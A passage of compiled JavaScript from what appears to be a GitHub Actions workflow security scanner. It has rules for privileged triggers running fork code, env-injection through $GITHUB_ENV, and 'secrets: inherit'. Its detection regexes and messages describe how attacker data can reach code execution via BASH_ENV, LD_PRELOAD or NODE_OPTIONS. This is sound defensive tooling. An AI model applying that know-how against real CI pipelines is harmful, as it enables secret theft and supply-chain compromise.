    for (const span of (0,expressions/* findExpressions */.zV)(text)) {
        for (const { path } of (0,expressions/* contextPaths */.A9)(span.inner)) {
            if (PR_HEAD_PATHS.some((re) => re.test(path)))
                return { yes: true, indirect: false };
            if (/^(steps|needs)\.[^.]+\.outputs\.[^.]*(sha|ref|head|branch|pr|pull)/.test(path))
                indirect = true;
        }
    }
    return { yes: indirect, indirect };
}
const SCRIPT_FETCH = [
    /\bgh\s+pr\s+checkout\b/,
    /\bhub\s+pr\s+checkout\b/,
    /\bgit\s+(?:fetch|pull)\b[^;&|]*\bpull\/[^\s]*\/(?:head|merge)\b/,
    /\bgit\s+(?:fetch|pull)\b[^;&|]*refs\/pull\//,
    /\bgh\s+pr\s+diff\b[^;]*\|\s*git\s+apply\b/,
];
/** Steps of a job that bring untrusted code into the runner, in order. */
function untrustedFetches(job, events) {
    const out = [];
    for (const step of job.steps) {
        const uses = (0,model_source/* scalarText */.ws)(step.uses);
        if (uses) {
            const ref = (0,dist_uses/* parseUses */.Ap)(uses);
            if (ref.kind !== "remote")
                continue;
            const name = (0,dist_uses/* actionName */.aM)(ref);
            if (name === "actions/checkout") {
                for (const key of ["ref", "repository"]) {
                    const node = step.with.get(key);
                    const text = (0,model_source/* scalarText */.ws)(node);
                    if (!node || !text)
                        continue;
                    const head = namesPrHead(text);
                    if (!head.yes)
                        continue;
                    out.push({ step, node, what: `${key}: ${text}`, kind: "checkout", path: checkoutPath(step), indirect: head.indirect });
                    break;
                }
            }
            else if (events.has("workflow_run") && isRunArtifactDownload(step)) {
                out.push({ step, node: step.uses, what: `the triggering run's artifacts (${name})`, kind: "artifact", path: (0,model_source/* scalarText */.ws)(step.with.get("path")), indirect: true });
            }
            continue;
        }
        const script = (0,model_source/* scalarText */.ws)(step.run);
        if (!script || !step.run)
            continue;
        for (const line of scriptLines(script)) {
            const code = stripComment(line.text);
            const scripted = SCRIPT_FETCH.some((re) => re.test(withoutExpressions(code)));
            const gitHead = /\bgit\s+(?:fetch|checkout|switch|pull|clone)\b/.test(code) && namesPrHead(code).yes && !namesPrHead(code).indirect;
            const runDownload = events.has("workflow_run") && /\bgh\s+run\s+download\b/.test(code);
            if (scripted || gitHead || runDownload) {
                out.push({ step, node: step.run, needle: line.first, offset: line.offset, what: code.trim(), kind: runDownload ? "artifact" : "script", indirect: runDownload });
                break;
            }
        }
    }
    return out;
}
function checkoutPath(step) {
    const path = (0,model_source/* scalarText */.ws)(step.with.get("path"))?.replace(/^\.\//, "").replace(/\/$/, "");
    return path && path !== "." && !path.includes("${{ github.workspace }}") ? path : undefined;
}
/** Build tools and package managers: they run code (scripts, hooks, build files) from the current directory. */
const TOOL_COMMAND = new RegExp([
    String.raw `\b(?:npm|pnpm)\s+(?:install|i|ci|run|run-script|test|t|build|exec|start|rebuild|publish|pack)\b`,
    String.raw `(?:^|[;&|(]\s*|\b(?:then|do|sudo)\s+)yarn\b`,
    String.raw `\b(?:npx|bunx)\s`,
    String.raw `\bbun\s+(?:install|i|run|test)\b`,
    String.raw `(?:^|[\s;&|(])(?:make|gmake|cmake|ninja|meson)\b`,
    String.raw `\bpip3?\s+install\b[^;&|]*(?:\s\.(?:\[\S*\])?(?:\s|$)|\s-e\s|\s-r\s|\s--editable\b)`,
    String.raw `\bpython3?\s+(?:setup\.py|-m\s+(?:build|pytest|tox|nox|pip\s+install\b[^;&|]*\s(?:-e\s|-r\s|\.(?:\s|$))))`,
    String.raw `(?:^|[\s;&|])(?:pytest|tox|nox|hatch|pdm|rye)\b`,
    String.raw `\bpoetry\s+(?:install|run|build)\b`,
    String.raw `\buv\s+(?:sync|run|build|pip\s+install\b[^;&|]*(?:\s-e\s|\s-r\s|\s\.(?:\s|$)))`,
    String.raw `\bgo\s+(?:build|test|run|generate|vet|install\s+\.)`,
    String.raw `\bcargo\s+(?:build|test|run|check|clippy|bench|install\s+--path)\b`,
    String.raw `(?:^|[\s;&|])(?:mvn|\.\/mvnw|gradle|\.\/gradlew|sbt|ant|bazel|bazelisk|buck2?)\b`,
    String.raw `\bbundle\s+(?:install|exec)\b|(?:^|[\s;&|])rake\b`,
    String.raw `\bcomposer\s+(?:install|update|run)\b`,
    String.raw `\bdotnet\s+(?:build|test|run|restore|pack|publish)\b`,
    String.raw `\bdocker\s+(?:build|buildx\s+build|compose)\b|\bdocker-compose\b`,
    String.raw `\bpre-commit\s+run\b`,
    String.raw `(?:^|[\s;&|])(?:just|task|mage|earthly)(?:\s|$)`,
].join("|"));
/** Running a script file; group 1 is its path. */
const SCRIPT_COMMAND = new RegExp([
    String.raw `(?:^|[;&|(]\s*|\b(?:then|do|sudo|exec)\s+)(\.\/[\w./-]+)`,
    String.raw `\b(?:bash|sh|zsh|source|\.)\s+((?:\.\/)?[\w./-]+\.sh)\b`,
    String.raw `\bnode\s+((?:\.\/)?[\w./-]+\.[cm]?[jt]s)\b`,
    String.raw `\bpython3?\s+((?:\.\/)?[\w./-]+\.py)\b`,
].join("|"));
/** Commands of a line, split at `&&`, `||`, `;` and `|`. */
function commandsOf(code) {
    return code.split(/&&|\|\||;|\|/).map((c) => c.trim()).filter(Boolean);
}
/** Actions that run the checked-out project's code (build scripts, hooks, Gemfile...). */
const BUILDING_ACTIONS = [
    { action: "github/codeql-action/autobuild", does: "builds the project" },
    { action: "gradle/gradle-build-action", does: "runs gradle" },
    // without `context:` it builds the Git context of github.sha (the base), not the checkout
    { action: "docker/build-push-action", when: (s) => s.with.has("context"), does: "runs the Dockerfile's RUN commands" },
    { action: "goreleaser/goreleaser-action", does: "runs the project's build hooks" },
    { action: "pypa/cibuildwheel", does: "builds the package" },
    { action: "pre-commit/action", does: "runs the repository's pre-commit hooks" },
    { action: "cypress-io/github-action", does: "installs and runs the project" },
    { action: "bahmutov/npm-install", does: "runs npm install" },
    { action: "borales/actions-yarn", does: "runs yarn" },
    { action: "ruby/setup-ruby", when: (s) => (0,model_source/* scalarText */.ws)(s.with.get("bundler-cache")) === "true", does: "runs bundle install (bundler-cache: true)" },
];
/** What an execution step runs from a fetched directory, or undefined when it does not. */
function runsFetchedCode(step, fetch) {
    const uses = (0,model_source/* scalarText */.ws)(step.uses);
    if (uses && step.uses) {
        const ref = (0,dist_uses/* parseUses */.Ap)(uses);
        if (ref.kind === "local") {
            const local = ref.path.replace(/^\.\//, "");
            return !fetch.path || local.startsWith(`${fetch.path}/`) ? { what: `the local action ${ref.path}`, node: step.uses } : undefined;
        }
        if (ref.kind !== "remote")
            return undefined;
        const name = (0,dist_uses/* actionName */.aM)(ref);
        const building = BUILDING_ACTIONS.find((b) => (name === b.action || name.startsWith(`${b.action}/`)) && (!b.when || b.when(step)));
        if (!building)
            return undefined;
        if (fetch.path && !withMentions(step, fetch.path))
            return undefined;
        return { what: `${name}, which ${building.does}`, node: step.uses };
    }
    const script = (0,model_source/* scalarText */.ws)(step.run);
    if (!script || !step.run)
        return undefined;
    const path = fetch.path;
    let entered = !path || (step.workingDirectory ?? "").replace(/^\.\//, "").startsWith(path);
    for (const line of scriptLines(script)) {
        if (fetch.step === step && fetch.offset !== undefined && line.offset <= fetch.offset)
            continue;
        for (const command of commandsOf(stripComment(line.text))) {
            if (path && new RegExp(`^cd\\s+["']?(?:\\./)?${checkout_escape(path)}(?:/|["']?$)|^pushd\\s+["']?(?:\\./)?${checkout_escape(path)}\\b`).test(command))
                entered = true;
            const tool = TOOL_COMMAND.exec(command);
            const inside = path !== undefined && new RegExp(`(?:--prefix[= ]|-C\\s+|--cwd[= ]|--dir[= ]|--manifest-path[= ]|-f\\s+)["']?(?:\\./)?${checkout_escape(path)}\\b`).test(command);
            if (tool && (entered || inside))
                return { what: tool[0].trim().replace(/^[;&|(]\s*/, ""), node: step.run, needle: line.first, offset: line.offset };
            const scriptRun = SCRIPT_COMMAND.exec(command);
            const file = scriptRun ? (scriptRun.slice(1).find((g) => g !== undefined) ?? "") : "";
            if (scriptRun && (entered || (path !== undefined && file.replace(/^\.\//, "").startsWith(`${path}/`))))
                return { what: scriptRun[0].trim().replace(/^[;&|(]\s*/, ""), node: step.run, needle: line.first, offset: line.offset };
        }
    }
    return undefined;
}
function withMentions(step, path) {
    return [...step.with.values()].some((v) => ((0,model_source/* scalarText */.ws)(v) ?? "").replace(/^\.\//, "").startsWith(path));
}
function checkout_escape(text) {
    return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}
//# sourceMappingURL=checkout.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/taint/conditions.js

/** The parsed condition of an `if:`, with or without `${{ }}`; undefined when it does not parse. */
function parseCondition(text) {
    if (text === undefined)
        return undefined;
    const spans = (0,expressions/* findExpressions */.zV)(text);
    const inner = spans.length === 1 && text.trim() === spans[0].text ? spans[0].inner : spans.length === 0 ? text.trim() : undefined;
    if (inner === undefined)
        return undefined;
    const expr = (0,expressions/* parseExpression */.YK)(inner);
    return expr ? expr : undefined;
}
/** The lower-case dotted path of a context access (`github.event.pull_request.head.repo.fork`), or undefined. */
function pathOf(node) {
    if (!node || typeof node !== "object")
        return undefined;
    const n = node;
    if ("name" in n && n.name && typeof n.name === "object" && !("functionName" in n))
        return String(n.name.lexeme).toLowerCase();
    if ("expr" in n && "index" in n) {
        const base = pathOf(n.expr);
        const index = n.index;
        const literal = index && "literal" in index ? index.literal.value : undefined;
        if (base === undefined)
            return undefined;
        return `${base}.${typeof literal === "string" ? literal.toLowerCase() : "*"}`;
    }
    return undefined;
}
/** A string, boolean or number literal's value, or undefined. */
function literalOf(node) {
    if (!node || typeof node !== "object" || !("literal" in node))
        return undefined;
    const value = node.literal.value;
    return typeof value === "string" || typeof value === "boolean" || typeof value === "number" ? value : undefined;
}
function operatorOf(node) {
    const op = node.operator;
    return op?.lexeme;
}
/** A comparison `path OP literal` in either order. */
function comparison(node) {
    if (!("left" in node && "right" in node))
        return undefined;
    const op = operatorOf(node);
    if (!op)
        return undefined;
    const lp = pathOf(node.left);
    const rp = pathOf(node.right);
    const lv = literalOf(node.left);
    const rv = literalOf(node.right);
    if (lp !== undefined && rv !== undefined)
        return { path: lp, op, value: rv };
    if (rp !== undefined && lv !== undefined)
        return { path: rp, op, value: lv };
    return undefined;
}
/** Both sides are context paths: `github.event.pull_request.head.repo.full_name == github.repository`. */
function pathComparison(node) {
    if (!("left" in node && "right" in node))
        return undefined;
    const op = operatorOf(node);
    const left = pathOf(node.left);
    const right = pathOf(node.right);
    return op && left && right ? { left, op, right } : undefined;
}
/** True when the condition can only hold if `leaf` holds for some conjunct on every branch. */
function implies(node, leaf) {
    if (!node)
        return false;
    if ("group" in node)
        return implies(node.group, leaf);
    if ("operator" in node && Array.isArray(node.args)) {
        const args = node.args;
        return operatorOf(node) === "&&" ? args.some((a) => implies(a, leaf)) : args.every((a) => implies(a, leaf));
    }
    return leaf(node);
}
/** True when `leaf` holding for the leaves it names is enough to make the whole condition hold. */
function suffices(node, leaf) {
    if (!node)
        return false;
    if ("group" in node)
        return suffices(node.group, leaf);
    if ("operator" in node && Array.isArray(node.args)) {
        const args = node.args;
        return operatorOf(node) === "&&" ? args.every((a) => suffices(a, leaf)) : args.some((a) => suffices(a, leaf));
    }
    return leaf(node);
}
/** The leaves under `&&` / `||` / groups: comparisons, calls, negations (not entered), paths. */
function leaves(node, out = []) {
    if (!node)
        return out;
    if ("group" in node)
        return leaves(node.group, out);
    if ("operator" in node && Array.isArray(node.args)) {
        for (const a of node.args)
            leaves(a, out);
        return out;
    }
    out.push(node);
    return out;
}
//# sourceMappingURL=conditions.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/taint/gates.js

/** Who can reach a job: conditions that keep forks out, and checks that let only some people in. */
/**
 * An `if:` that keeps forks out, or keeps the job off the privileged triggers, on every branch:
 * `head.repo.full_name == github.repository`, `head.repo.fork == false`, `merged == true`,
 * `workflow_run.event == 'push'`, `github.event_name == 'push'`.
 */
function excludesForks(condition, privileged) {
    return implies(parseCondition(condition), (leaf) => keepsOutForks(leaf, privileged));
}
const SAME_REPO = /^github\.event\.(?:pull_request\.head\.repo|workflow_run\.head_repository)\.full_name$/;
function keepsOutForks(leaf, privileged) {
    const paths = pathComparison(leaf);
    if (paths && paths.op === "==") {
        const other = paths.left === "github.repository" ? paths.right : paths.right === "github.repository" ? paths.left : undefined;
        if (other && SAME_REPO.test(other))
            return true;
    }
    const c = comparison(leaf);
    if (c) {
        const value = typeof c.value === "string" ? c.value.toLowerCase() : c.value;
        if (/head\.repo\.fork$|head_repository\.fork$/.test(c.path))
            return (c.op === "==" && (value === false || value === "false")) || (c.op === "!=" && (value === true || value === "true"));
        if (c.path === "github.event.pull_request.merged")
            return c.op === "==" && (value === true || value === "true");
        if (c.path === "github.event.workflow_run.event")
            return c.op === "==" && value !== "pull_request" && value !== "pull_request_target";
        if (c.path === "github.event_name" && typeof value === "string") {
            if (c.op === "==")
                return !privileged.includes(value);
            if (c.op === "!=")
                return privileged.length === 1 && privileged[0] === value;
        }
        return false;
    }
    if (operatorOf(leaf) === "!" && "expr" in leaf)
        return /head\.repo\.fork$|head_repository\.fork$/.test(pathOf(leaf.expr) ?? "");
    return pathOf(leaf) === "github.event.pull_request.merged";
}
/** A job `if:`, or a check in an earlier step's script, that lets only some people trigger it: a label, an author association, a permission check. */
function gatedBy(...conditions) {
    for (const c of conditions) {
        if (!c)
            continue;
        if (/author_association|authorAssociation/.test(c))
            return "an author-association check";
        if (/getCollaboratorPermissionLevel|collaborators\/[^/]+\/permission/.test(c))
            return "a permission check";
        if (/labels|label\.name/.test(c))
            return "a label";
        if (/github\.(?:triggering_)?actor\s*==/.test(c))
            return "an actor check";
    }
    return undefined;
}
//# sourceMappingURL=gates.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/dangerous-trigger.js






/** Triggers that run the base repository's workflow, with its secrets and a write token, for outsiders' events. */
const PRIVILEGED = ["pull_request_target", "issue_comment", "workflow_run"];
/**
 * A privileged trigger is only dangerous when the job then runs code an outsider wrote: it checks
 * out the pull request's head (or downloads a fork run's artifacts) and runs a build, an install,
 * a script or a local action from it. The trigger alone is not reported.
 */
const dangerousTrigger = {
    id: "dangerous-trigger",
    title: "Privileged trigger runs untrusted code",
    severity: "critical",
    confidence: "high",
    targets: ["workflow"],
    check(ctx) {
        const workflow = ctx.target;
        if (workflow.kind !== "workflow")
            return;
        const events = (0,walk/* eventNames */.Z2)(workflow);
        const privileged = PRIVILEGED.filter((e) => events.has(e));
        if (privileged.length === 0)
            return;
        for (const job of workflow.jobs) {
            if (excludesForks((0,model_source/* scalarText */.ws)(job.if), privileged))
                continue;
            for (const fetch of untrustedFetches(job, events)) {
                if (excludesForks((0,model_source/* scalarText */.ws)(fetch.step.if), privileged))
                    continue;
                checkFetch(ctx, workflow, job, fetch, triggerFor(fetch, privileged));
            }
        }
    },
};
function checkFetch(ctx, workflow, job, fetch, trigger) {
    for (const step of job.steps) {
        if (step.index < fetch.step.index || (step === fetch.step && fetch.kind !== "script"))
            continue;
        const run = runsFetchedCode(step, fetch);
        if (!run)
            continue;
        const source = workflow.source;
        const at = fetch.needle !== undefined && fetch.offset !== undefined ? locateInValue(source, fetch.node, (0,model_source/* scalarText */.ws)(fetch.node) ?? "", fetch.offset, fetch.needle) : source.positionOf(fetch.node);
        const earlier = job.steps.filter((s) => s.index <= fetch.step.index).map((s) => (0,model_source/* scalarText */.ws)(s.run) ?? (0,model_source/* scalarText */.ws)(s.with.get("script")));
        const gate = gatedBy((0,model_source/* scalarText */.ws)(job.if), (0,model_source/* scalarText */.ws)(fetch.step.if), ...earlier) ?? (job.environmentName ? `the ${job.environmentName} environment's approval` : undefined);
        const runner = step === fetch.step ? "then runs it" : `${stepLabel(step)} runs it`;
        const fetched = fetch.kind === "artifact" ? `downloads ${fetch.what}${fetch.path ? ` into ${fetch.path}` : " into the workspace"}` : `fetches ${/workflow_run/.test(fetch.what) ? "the triggering run's code" : "the pull request's code"} (${fetch.what})`;
        ctx.report({
            at,
            job: job.id,
            step: fetch.step.index,
            severity: gate ? "high" : "critical",
            confidence: fetch.indirect ? "medium" : "high",
            message: `on ${trigger}, ${stepLabel(fetch.step, job)} ${fetched} and ${runner} (${run.what}) with the base repository's secrets and token` +
                (gate ? `, gated only by ${gate} (what runs is the head at that moment, not necessarily what was reviewed)` : "") +
                `; ${dangerous_trigger_fixFor(fetch)}`,
        });
        return;
    }
}
function dangerous_trigger_fixFor(fetch) {
    if (fetch.kind === "artifact")
        return "download artifacts outside the workspace (path: ${{ runner.temp }}/artifacts), treat them as data and never run or install from them";
    return "build and test pull requests in a pull_request workflow (no secrets) and pass results here as artifacts, or check out only the base branch";
}
/** The privileged trigger that brings this fetch about, for the message. */
function triggerFor(fetch, privileged) {
    if (fetch.kind === "artifact" || /workflow_run/.test(fetch.what))
        return privileged.includes("workflow_run") ? "workflow_run" : privileged[0];
    if (/issue\.number|gh\s+pr\s+checkout/.test(fetch.what) && privileged.includes("issue_comment"))
        return "issue_comment";
    return privileged.find((t) => t !== "workflow_run") ?? privileged[0];
}
//# sourceMappingURL=dangerous-trigger.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/env-injection.js







/** Under these a fork's own code runs anyway: setting its environment gains nothing. */
const UNPRIVILEGED = new Set(["pull_request", "pull_request_review", "pull_request_review_comment"]);
/**
 * A line an attacker can shape, written to $GITHUB_ENV, sets any variable for the job's later
 * steps: BASH_ENV, LD_PRELOAD or NODE_OPTIONS turn that into code execution. The same goes for a
 * directory prepended through $GITHUB_PATH.
 */
const envInjection = {
    id: "env-injection",
    title: "Attacker-controlled data written to $GITHUB_ENV or $GITHUB_PATH",
    severity: "high",
    confidence: "medium",
    check(ctx) {
        for (const { step, job } of (0,walk/* allSteps */.Bd)(ctx.target)) {
            const script = (0,model_source/* scalarText */.ws)(step.run);
            if (!step.run || !script || !/GITHUB_(ENV|PATH)/.test(script))
                continue;
            const writes = commandFileWrites(script).filter((w) => w.file !== "GITHUB_OUTPUT");
            const randomDelimiter = writes.some(usesRandomDelimiter);
            const scope = scopeFor(ctx.target, job, step);
            for (const write of writes) {
                const taints = shellDataTaint(write.data, script, scope, write.line.offset).filter((t) => relevant(t, write, randomDelimiter));
                const taint = worstTaint(taints);
                if (!taint)
                    continue;
                ctx.report({
                    at: locateInValue(ctx.target.source, step.run, script, write.line.offset, write.line.first),
                    job: job?.id,
                    step: step.index,
                    severity: severityOf(taint),
                    confidence: taint.confidence,
                    message: `${stepLabel(step, job)} writes data carrying ${taint.origin} to $${write.file}; ${whoControls(taint)}; ${consequence(write)}; ${env_injection_fixFor(write)}`,
                });
            }
        }
    },
};
const PRIVILEGED_SEVERITY = {
    pull_request_target: true, issue_comment: true, issues: true, discussion: true, discussion_comment: true,
    workflow_run: true, commit_comment: true, gollum: true, check_suite: true, check_run: true,
};
/** Privileged triggers keep the taint's severity; a dispatcher already has write access: low. */
function severityOf(taint) {
    if (taint.via in PRIVILEGED_SEVERITY)
        return taint.severity;
    if (taint.via === "workflow_dispatch" || taint.via === "repository_dispatch")
        return "low";
    return minSeverity(taint.severity, "medium");
}
/** Whether a taint can do harm through this write. */
function relevant(taint, write, randomDelimiter) {
    if (UNPRIVILEGED.has(taint.via))
        return false;
    if (write.file === "GITHUB_PATH")
        return true;
    // the whole line: NAME=value of the attacker's choosing, unless it is the body of a NAME<<$RANDOM block
    if (write.bare)
        return !randomDelimiter;
    // NAME=value: only a newline reaches another variable; a random delimiter stops NAME<<DELIM bodies
    return taint.multiline && !usesRandomDelimiter(write);
}
function consequence(write) {
    if (write.file === "GITHUB_PATH")
        return "it decides where later steps of the job find their commands";
    return write.bare
        ? "it chooses a whole NAME=value line, so it can set BASH_ENV, LD_PRELOAD or NODE_OPTIONS for every later step of the job"
        : `a newline in it adds lines after ${write.name ?? "the variable"}, so it can set BASH_ENV, LD_PRELOAD or NODE_OPTIONS for every later step of the job`;
}
function env_injection_fixFor(write) {
    if (write.file === "GITHUB_PATH")
        return "append only fixed directories to $GITHUB_PATH";
    if (write.bare)
        return "write only NAME=value lines with a fixed NAME and a validated value, or pass the value as a step output read through env:";
    return `pass it as a step output read through env:, or write it as ${write.name ?? "NAME"}<<$DELIM with a random delimiter (DELIM=$(openssl rand -hex 16))`;
}
//# sourceMappingURL=env-injection.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/secrets-inherit.js


/**
 * `secrets: inherit` hands every secret the caller can read (repository, organization and, in an
 * environment job, environment secrets) to a reusable workflow, whatever it needs. Worse when the
 * callee is another repository's and can change under a tag.
 */
const secretsInherit = {
    id: "secrets-inherit",
    title: "Reusable workflow called with secrets: inherit",
    severity: "medium",
    confidence: "high",
    targets: ["workflow"],
    check(ctx) {
        const { target } = ctx;
        if (target.kind !== "workflow")
            return;
        for (const job of target.jobs) {
            if (!job.uses || (0,model_source/* scalarText */.ws)(job.secrets) !== "inherit")
                continue;
            const raw = (0,model_source/* scalarText */.ws)(job.uses) ?? "";
            const ref = (0,dist_uses/* parseUses */.Ap)(raw);
            const at = target.source.positionOf(job.secrets);
            const fix = "pass only the secrets it needs by name (`secrets: { NAME: ${{ secrets.NAME }} }`)";
            if (ref.kind === "local") {
                ctx.report({
                    at,
                    job: job.id,
                    severity: "low",
                    message: `job ${job.id} passes every secret this workflow can read to ${ref.path} with \`secrets: inherit\`; ${fix}, so a change to that workflow cannot quietly start reading the others`,
                });
                continue;
            }
            if (ref.kind !== "remote")
                continue;
            const name = (0,dist_uses/* actionName */.aM)(ref);
            const pinned = (0,dist_uses/* isShaRef */.AU)(ref.ref);
            ctx.report({
                at,
                job: job.id,
                severity: pinned ? "medium" : "high",
                message: pinned
                    ? `job ${job.id} passes every secret this workflow can read to reusable workflow ${name} with \`secrets: inherit\`; ${fix}`
                    : `job ${job.id} passes every secret this workflow can read to reusable workflow ${name}@${ref.ref ?? "(no ref)"}, which its owner can change at any time, with \`secrets: inherit\`; ${fix} and pin the workflow to a commit SHA`,
            });
        }
    },
};
//# sourceMappingURL=secrets-inherit.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/step-inputs.js


/** `owner/repo[/path]` of a step's `uses:`, lower-cased, when it calls a remote action. */
function stepAction(step) {
    const ref = stepUses(step);
    return ref?.kind === "remote" ? (0,dist_uses/* actionName */.aM)(ref) : undefined;
}
function stepUses(step) {
    const raw = (0,model_source/* scalarText */.ws)(step.uses);
    return raw ? (0,dist_uses/* parseUses */.Ap)(raw) : undefined;
}
/** The `with:` input of a step as text, when it is a scalar. */
function input(step, name) {
    return (0,model_source/* scalarText */.ws)(step.with.get(name));
}
//# sourceMappingURL=step-inputs.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/credentials/checkout.js



function isCheckout(step) {
    return stepAction(step) === "actions/checkout";
}
/**
 * Whether a checkout leaves the token in git's config for later steps: `default` (the input is
 * not set, so true), `explicit` (`persist-credentials: true`), `no`, or `unknown` (an expression).
 */
function persistence(step) {
    const value = input(step, "persist-credentials");
    if (value === undefined)
        return "default";
    if (value.includes("${{"))
        return "unknown";
    return value.trim().toLowerCase() === "false" ? "no" : "explicit";
}
/**
 * The checkout's major version, from a `@v4` tag or the `# v4.2.2` comment beside a SHA.
 * Undefined when neither says.
 */
function checkoutMajor(source, step) {
    const ref = stepUses(step);
    if (ref?.kind !== "remote")
        return undefined;
    const tag = /^v(\d+)/.exec(ref.ref ?? "");
    if (tag)
        return Number(tag[1]);
    const line = source.line(source.positionOf(step.uses).line);
    const comment = /#\s*v?(\d+)(?:\.\d+)*\b/.exec(line.slice(line.indexOf("#")));
    return line.includes("#") && comment ? Number(comment[1]) : undefined;
}
/** Context paths whose value is a ref or commit of code from a pull request (a fork's, maybe). */
const UNTRUSTED_REF_PATHS = [
    "github.event.pull_request.head.sha",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.repo.full_name",
    "github.event.pull_request.merge_commit_sha",
    "github.event.pull_request.number",
    "github.head_ref",
    "github.event.workflow_run.head_sha",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.id",
    "github.event.workflow_run.head_repository.full_name",
    "github.event.workflow_run.pull_requests.*.head.sha",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.event.issue.number",
];
function readsUntrustedRef(text) {
    if (/refs\/pull\//.test(text))
        return true;
    return (0,expressions/* findExpressions */.zV)(text).some((span) => (0,expressions/* contextPaths */.A9)(span.inner).some((p) => UNTRUSTED_REF_PATHS.includes(p.path)));
}
/**
 * True when a step puts code from a pull request into the workspace: `actions/checkout` with a
 * PR head `ref:`/`repository:`, or a script running `gh pr checkout` / fetching `pull/N/head`.
 */
function checksOutPullRequest(step) {
    if (isCheckout(step)) {
        return [input(step, "ref"), input(step, "repository")].some((v) => v !== undefined && readsUntrustedRef(v));
    }
    const run = (0,model_source/* scalarText */.ws)(step.run);
    if (!run)
        return false;
    if (/\bgh\s+pr\s+checkout\b/.test(run))
        return true;
    return /\bgit\s+(?:fetch|checkout|switch|pull)\b[^\n]*(?:pull\/|\$\{\{)/.test(run) && readsUntrustedRef(run);
}
/** Index of the first step of a job that checks out pull-request code, or -1. */
function pullRequestCheckoutIndex(job) {
    const step = job.steps.find(checksOutPullRequest);
    return step ? step.index : -1;
}
//# sourceMappingURL=checkout.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/credentials/secret-refs.js



/** Every scalar value below a node (map keys excluded), in document order. */
function scalarsIn(node) {
    const out = [];
    collectScalars(node, out);
    return out;
}
function collectScalars(n, out) {
    if ((0,dist.isScalar)(n))
        out.push(n);
    else if ((0,dist.isMap)(n))
        for (const item of n.items)
            collectScalars(item.value, out);
    else if ((0,dist.isSeq)(n))
        for (const item of n.items)
            collectScalars(item, out);
    else if ((0,dist.isPair)(n))
        collectScalars(n.value, out);
}
/**
 * Reads of the `secrets` context in a scalar's expressions. Worked out once per scalar and shared
 * by the rules that ask: do not modify the result.
 */
function secretRefsOf(source, node) {
    const text = (0,model_source/* scalarText */.ws)(node);
    if (!text || !text.includes("secrets"))
        return [];
    const cached = refsCache.get(node);
    if (cached && cached.source === source)
        return cached.refs;
    const refs = findSecretRefs(source, node, text);
    refsCache.set(node, { source, refs });
    return refs;
}
const refsCache = new WeakMap();
function findSecretRefs(source, node, text) {
    const refs = [];
    const seen = new Map();
    for (const span of (0,expressions/* findExpressions */.zV)(text)) {
        const occurrence = seen.get(span.text) ?? 0;
        seen.set(span.text, occurrence + 1);
        for (const { path, sanitized } of (0,expressions/* contextPaths */.A9)(span.inner)) {
            if (path !== "secrets" && !path.startsWith("secrets."))
                continue;
            const rest = path.slice("secrets.".length);
            const kind = path === "secrets" ? "all" : rest === "*" || rest.startsWith("*") ? "dynamic" : "named";
            const name = kind === "named" ? rest.split(".")[0].toUpperCase() : undefined;
            refs.push(new FoundRef(source, kind, name, span.text, node, occurrence, sanitized));
        }
    }
    return refs;
}
/** A secret read whose position is worked out only when a rule reports it. */
class FoundRef {
    source;
    kind;
    name;
    expression;
    node;
    occurrence;
    sanitized;
    at;
    constructor(source, kind, name, expression, node, occurrence, sanitized) {
        this.source = source;
        this.kind = kind;
        this.name = name;
        this.expression = expression;
        this.node = node;
        this.occurrence = occurrence;
        this.sanitized = sanitized;
    }
    get pos() {
        this.at ??= this.source.positionIn(this.node, this.expression, this.occurrence);
        return this.at;
    }
}
/** Reads of the `secrets` context anywhere below a node. */
function secretRefsIn(source, node) {
    const out = [];
    for (const scalar of scalarsIn(node)) {
        const refs = secretRefsOf(source, scalar);
        for (const ref of refs)
            out.push(ref);
    }
    return out;
}
/** True for the always-present token, which is not a stored secret. */
function isGithubToken(ref) {
    return ref.kind === "named" && ref.name === "GITHUB_TOKEN";
}
/** Secret reads that reach a job: its own body plus the workflow-level `env:`. */
function jobSecretRefs(workflow, job) {
    const source = workflow.source;
    const fromWorkflowEnv = [...workflow.env.values()].flatMap((value) => secretRefsIn(source, value));
    return [...fromWorkflowEnv, ...secretRefsIn(source, job.node)];
}
//# sourceMappingURL=secret-refs.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/script-lines.js

/**
 * Splits a `run:` script into logical lines and maps each back to the file. Lines ending in `\`
 * (sh) or a backtick (pwsh) continue on the next one. Mapping is done by searching the scalar's
 * source text in order, so block scalars map exactly and escaped quoted scalars fall back to the
 * scalar's start. Computed once per scalar and shared by the rules: do not modify the result.
 */
function script_lines_scriptLines(source, run) {
    const cached = linesCache.get(run);
    if (cached && cached.source === source)
        return cached.lines;
    const lines = script_lines_splitLines(source, run);
    linesCache.set(run, { source, lines });
    return lines;
}
const linesCache = new WeakMap();
function script_lines_splitLines(source, run) {
    const value = (0,model_source/* scalarText */.ws)(run);
    if (value === undefined)
        return [];
    const range = run.range;
    const rawStart = range ? range[0] : -1;
    const raw = range ? source.text.slice(range[0], range[1]) : "";
    const physical = value.split(/\r?\n/);
    const lines = [];
    let cursor = 0;
    let pending;
    for (const line of physical) {
        const trimmed = line.trim();
        let start = -1;
        let end = -1;
        if (trimmed && raw) {
            const at = raw.indexOf(trimmed, cursor);
            if (at >= 0) {
                start = at;
                end = at + trimmed.length;
                cursor = end;
            }
        }
        const code = script_lines_stripComment(trimmed);
        const continues = code.endsWith("\\") || code.endsWith("`");
        const piece = continues ? code.slice(0, -1) : code;
        if (pending) {
            pending.text += ` ${piece.trim()}`;
            if (end >= 0)
                pending.end = end;
        }
        else {
            pending = { text: piece.trim(), start, end };
        }
        if (continues)
            continue;
        if (pending.text)
            lines.push(new MappedLine(source, run, pending, rawStart, raw));
        pending = undefined;
    }
    if (pending?.text)
        lines.push(new MappedLine(source, run, pending, rawStart, raw));
    return lines;
}
/** A logical line whose positions are worked out only when a rule reports on it. */
class MappedLine {
    source;
    run;
    span;
    rawStart;
    raw;
    text;
    startPos;
